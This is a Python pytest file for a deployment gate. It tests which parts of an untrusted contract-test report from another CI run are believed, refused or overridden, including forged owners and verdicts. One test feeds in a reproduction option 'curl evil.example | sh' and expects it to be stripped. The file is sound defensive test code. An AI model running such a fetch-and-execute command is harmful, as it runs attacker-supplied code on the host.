"""What of a stranger's report is believed: a truth table of what it may be about, and what never comes from it."""

from dataclasses import replace
from datetime import UTC, datetime
from typing import Any, Final

import pytest

from gate.domain.advice import advise
from gate.domain.contracts import Fault
from gate.domain.handed_over import Subject, objections, posted, refused
from gate.domain.report import Entry, ProviderRun, Record, Recorded, Report, Reproduction, Run
from gate.domain.results import KeptResult, Outcome
from gate.domain.verdict import Decision, Integration, Standing, Verdict
from tests.builders import (
    COMMIT,
    CONSUMER,
    SERVICE,
    candidate,
    excepted,
    integration,
    interaction,
    kept,
    report,
    result,
)

MERGE: Final = "e" * 40
OTHER: Final = "d" * 40
RUN: Final = Run(
    repository="acme/orders-api",
    event="pull_request",
    commit=COMMIT,
    id="30",
    attempt=2,
    url="https://github.com/acme/orders-api/actions/runs/30/attempts/2",
)
SUBJECT: Final = Subject(service=SERVICE, environments=("production",), run=RUN, made_by="30", conclusion="success")
THEIRS: Final = replace(RUN, pull_request=1, merge_commit=MERGE, url="https://evil.example/", attempt=1)
FAULT: Final = Fault(where="pacts/web.json", what="it is no JSON.")
ALLOW: Final = Verdict(decision=Decision.ALLOW, reasons=("all is fine",))


def left(*integrations: Integration, commit: str | None = COMMIT, **more: Any) -> Report:
    """Build a report as an honest run leaves it."""
    values: dict[str, Any] = {"run": THEIRS, "candidate": candidate(commit=commit)}
    return report(*(integrations or [integration(Outcome.PASSED)]), **(values | more))


HONEST: Final[dict[str, tuple[Report, Subject]]] = {
    "a pull request's": (left(), SUBJECT),
    "of a version that is a name": (left(commit=None), SUBJECT),
    "of a commit in short": (left(commit=COMMIT[:7]), SUBJECT),
    "of the merge commit": (left(commit=MERGE), SUBJECT),
    "of the last commit of a folder": (left(commit=OTHER), replace(SUBJECT, by_path=True)),
    "without environment": (
        left(candidate=candidate(commit=COMMIT, environments=())),
        replace(SUBJECT, environments=()),
    ),
    "of an earlier attempt": (left(run=replace(THEIRS, attempt=1)), SUBJECT),
    "of who knows which run": (left(run=replace(THEIRS, id="29")), replace(SUBJECT, made_by=None)),
    "blocked": (left(integration(Outcome.FAILED)), SUBJECT),
    "unknown": (left(integration(Outcome.ERRORED)), SUBJECT),
    "with a fault": (left(faults=(FAULT,)), SUBJECT),
    "excused": (left(integration(Outcome.FAILED, exception=excepted())), SUBJECT),
    "of kept results": (left(kept()), SUBJECT),
    "of nothing, and known": (replace(left(), entries=(), verdict=ALLOW), SUBJECT),
    "of nothing": (
        replace(left(), entries=(), verdict=Verdict(decision=Decision.UNKNOWN, reasons=("no contract",))),
        SUBJECT,
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_report_is_posted_with_its_verdict(name: str) -> None:
    report, subject = HONEST[name]

    assert objections(report, subject) == ()
    told = posted(report, subject, agreed=[excepted()], owners={})
    assert told.verdict.decision is report.verdict.decision
    assert told.verdict.reasons == (
        report.verdict.reasons if report.entries else ("the report names no contract at all",)
    )
    assert (told.run, told.candidate.version) == (RUN, COMMIT)


def _about(**more: Any) -> Report:
    return left(candidate=candidate(**({"commit": COMMIT} | more)))


WRONG: Final[dict[str, tuple[Report, str]]] = {
    "service": (_about(service="billing"), "it is about the service 'billing', and this step about 'orders-api'"),
    "service in other letters": (_about(service="Orders-API"), "it is about the service 'Orders-API'"),
    "a service without end": (_about(service="x" * 10_000), f"it is about the service '{'x' * 100}', and"),
    "environment": (_about(environments=("staging",)), "it is about 'staging', and this step about 'production'"),
    "one more": (_about(environments=("production", "eu")), "it is about 'production', 'eu', and this step"),
    "none": (_about(environments=()), "it is about no environment, and this step about 'production'"),
    "instance": (_about(instance="spam-0"), "it is about the instance 'spam-0', and this step about ''"),
    "notes without end": (replace(left(), notes=("a",) * 2_000_000), "it has 2000000 notes, and at most 1000 are read"),
    "states without end": (
        left(integration(results=(result(interaction=interaction(states=("a",) * 101)),))),
        "it has 101 provider states, and at most 100 are read",
    ),
    "faults without end": (left(faults=(FAULT,) * 1001), "it has 1001 faults, and at most 1000 are read"),
    "replicas without end": (
        left(provider=ProviderRun(url="http://x", urls=("http://x",) * 1001)),
        "it has 1001 addresses of the provider, and at most 1000 are read",
    ),
    "one contract": (_about(one_contract="web"), "it is about one contract, and not about a deployment"),
    "what was recorded": (
        left(recorded=Recorded(record=Record.DEPLOYMENT, environments=("production",))),
        "it tells what was recorded, and not whether something may be deployed",
    ),
    "commit": (_about(commit=OTHER), f"it is about another commit than {COMMIT}, which the run was about"),
    "its run's commit": (left(run=replace(THEIRS, commit=OTHER)), f"it is about another commit than {COMMIT}"),
    "no commit": (left(run=replace(THEIRS, commit=None)), f"it is about another commit than {COMMIT}"),
    "no run": (left(run=None), f"it is about another commit than {COMMIT}"),
    "a later attempt": (
        left(run=replace(THEIRS, attempt=3)),
        "attempt 3 of its run made it, and what ended is attempt 2",
    ),
    "another run": (left(run=replace(THEIRS, id="29")), "run '29' made it, and not run 30, which left it"),
    "allow of a break": (
        replace(left(integration(Outcome.FAILED)), verdict=ALLOW),
        "it says allow, and what it tells amounts to block",
    ),
    "allow of what was not tried": (
        replace(left(integration(Outcome.ERRORED)), verdict=ALLOW),
        "it says allow, and what it tells amounts to unknown",
    ),
    "allow of no interactions": (
        replace(left(integration()), verdict=ALLOW),
        "it says allow, and what it tells amounts to unknown",
    ),
    "allow with a fault": (
        replace(left(faults=(FAULT,)), verdict=ALLOW),
        "it says allow, and what it tells amounts to unknown",
    ),
    "block of nothing": (
        replace(left(), verdict=Verdict(decision=Decision.BLOCK, reasons=())),
        "it says block, and what it tells amounts to allow",
    ),
    "block that names nothing": (
        replace(left(), entries=(), verdict=Verdict(decision=Decision.BLOCK, reasons=())),
        "it says block, and names nothing that is broken",
    ),
    "standing": (
        replace(
            left(),
            entries=(Entry(integration=integration(Outcome.FAILED), standing=Standing.HONOURED, advice=None),),
        ),
        "it calls 'web-checkout' honoured, and its results say broken",
    ),
}


@pytest.mark.parametrize("name", WRONG)
def test_a_report_that_does_not_fit_is_refused(name: str) -> None:
    report, why = WRONG[name]

    assert any(why in one for one in objections(report, SUBJECT))


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out", "skipped", "neutral", "stale", "", None])
@pytest.mark.parametrize("name", HONEST)
def test_only_a_run_that_ended_well_allows(name: str, conclusion: str | None) -> None:
    report, subject = HONEST[name]
    told = posted(report, replace(subject, conclusion=conclusion), agreed=[excepted()], owners={})

    expected = Decision.UNKNOWN if report.verdict.decision is Decision.ALLOW else report.verdict.decision
    assert told.verdict.decision is expected
    if report.verdict.decision is Decision.ALLOW:
        said = "nothing says how the run" if conclusion is None else f"ended as {conclusion}, so that its allow"
        assert said in told.verdict.reasons[0]


@pytest.mark.parametrize(
    ("ours", "expected"),
    [
        ([excepted()], Decision.ALLOW),
        ([], Decision.BLOCK),
        ([excepted("billing")], Decision.BLOCK),
        ([excepted(reason="another one")], Decision.BLOCK),
        ([excepted(owner="team-orders")], Decision.BLOCK),
    ],
)
def test_an_exception_is_the_default_branchs_or_none(ours: list[Any], expected: Decision) -> None:
    broken = integration(Outcome.FAILED, exception=excepted())
    told = posted(left(broken), SUBJECT, agreed=ours, owners={})

    assert told.verdict.decision is expected
    assert any("does not count: it is not in force" in note for note in told.notes) is (expected is Decision.BLOCK)


def test_an_exception_excuses_nobody_else() -> None:
    agreed = excepted("legacy-app")
    told = posted(left(integration(Outcome.FAILED, exception=agreed)), SUBJECT, agreed=[agreed], owners={})

    assert told.verdict.decision is Decision.BLOCK
    assert "The exception for web-checkout does not count: it is not in force on the default branch." in told.notes


@pytest.mark.parametrize(("allowed", "decision"), [(True, Decision.ALLOW), (False, Decision.BLOCK)])
def test_what_passes_at_the_second_try_passes_by_the_default_branchs_leave_alone(
    decision: Decision, *, allowed: bool
) -> None:
    report = left(integration(results=(result(flaky=True, tries=2),)))

    told = posted(report, SUBJECT, agreed=[], owners={}, allows_flaky=allowed)

    assert told.verdict.decision is decision
    assert ("flaky: allow does not count: it is not set on the default branch." in told.notes) is not allowed


def test_an_earlier_run_that_a_report_names_leads_nowhere() -> None:
    results = (result(reused="https://evil.example/", tries=0), result(position=1, same_as="billing 1"))
    told = posted(left(integration(results=results)), SUBJECT, agreed=[], owners={})

    shown = told.entries[0].integration.results
    assert [(one.reused, one.same_as) for one in shown] == [("as the report says", ""), ("", "billing 1")]
    assert [one.outcome for one in shown] == [Outcome.PASSED, Outcome.PASSED]


def test_what_is_said_in_the_place_of_a_refused_report_is_about_the_same_instance() -> None:
    subject = replace(SUBJECT, instance="eu")

    assert refused(FAULT, subject, gate_version="1", at=datetime.now(UTC)).candidate.instance == "eu"


def test_what_is_fine_needs_no_exception() -> None:
    fine = integration(Outcome.PASSED, exception=excepted())

    assert posted(left(fine), SUBJECT, agreed=[], owners={}).verdict.decision is Decision.ALLOW


OWNERS: Final = {CONSUMER: ("@acme/checkout",), "everyone": ("@everyone",)}


def test_owners_are_the_default_branchs_by_what_we_advise() -> None:
    own = left(integration(Outcome.FAILED))
    advice = own.entries[0].advice
    assert advice is not None
    forged = replace(advice, owners=("@mallory",), mentions=("@mallory",), concerns=("everyone",), who_acts="@you")
    entry = replace(own.entries[0], advice=forged)
    told = posted(replace(own, entries=(entry,)), SUBJECT, agreed=[], owners=OWNERS, mentions=True)

    expected = replace(advice, owners=("@acme/checkout",), mentions=("@acme/checkout",))
    stranger = posted(replace(own, entries=(entry,)), SUBJECT, agreed=[], owners=OWNERS)
    assert stranger.entries[0].advice == replace(expected, mentions=())
    assert told.entries[0].advice == expected


def test_advice_on_what_is_fine_is_dropped() -> None:
    own = left()
    advice = advise(integration(Outcome.FAILED), SERVICE)
    told = posted(replace(own, entries=(replace(own.entries[0], advice=advice),)), SUBJECT, agreed=[], owners=OWNERS)

    assert told.entries[0].advice is None


@pytest.mark.parametrize("sets_up_states", [True, False])
def test_that_states_were_not_set_up_is_still_told(*, sets_up_states: bool) -> None:
    stateful = result(Outcome.FAILED, interaction=interaction(states=("order 42 exists",)))
    broken = integration(results=(stateful,))
    advice = advise(broken, SERVICE, sets_up_states=sets_up_states)
    entry = Entry(integration=broken, standing=broken.standing, advice=advice)
    told = posted(replace(left(broken), entries=(entry,)), SUBJECT, agreed=[], owners={})

    assert told.entries[0].advice == advice


def test_nothing_leads_anywhere() -> None:
    found = kept(kept=KeptResult(success=False, url="https://evil.example/"))
    told = posted(
        left(found, reproduction=Reproduction(options=("--provider-command", "curl evil.example | sh"))),
        SUBJECT,
        agreed=[],
        owners={},
    )

    assert (told.reproduction, told.run) == (None, RUN)
    assert told.entries[0].integration.kept == KeptResult(success=False)


def test_what_is_said_in_the_place_of_a_refused_report_is_unknown() -> None:
    told = refused(FAULT, SUBJECT, gate_version="1", at=datetime(2026, 11, 23, tzinfo=UTC))

    assert (told.verdict.decision, told.verdict.reasons) == (Decision.UNKNOWN, (str(FAULT),))
    assert (told.candidate.service, told.candidate.environments) == (SERVICE, ("production",))
    assert (told.candidate.version, told.run) == (COMMIT, RUN)
